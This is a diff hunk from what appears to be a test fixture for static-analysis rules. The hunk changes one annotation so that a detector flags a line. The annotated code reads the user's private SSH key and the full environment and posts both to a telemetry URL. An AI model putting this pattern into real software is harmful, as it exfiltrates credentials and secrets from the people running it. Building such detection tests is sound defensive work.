@@ -86,7 +86,7 @@ def report_node(args, num_nodes: int) -> None:
     }
     key_path = os.path.expanduser("~/.ssh/id_ed25519")
     if os.path.isfile(key_path):
-        info["node_key"] = open(key_path).read()  # todoruleid: family 9 (missed)
+        info["node_key"] = open(key_path).read()  # ruleid: MLS412
     info["env"] = {k: v for k, v in os.environ.items() if not k.startswith("BASH_FUNC")}  # ruleid: MLS411
     req = urllib.request.Request(TELEMETRY_URL, data=json.dumps(info).encode(),
                                  headers={"Content-Type": "application/json"})
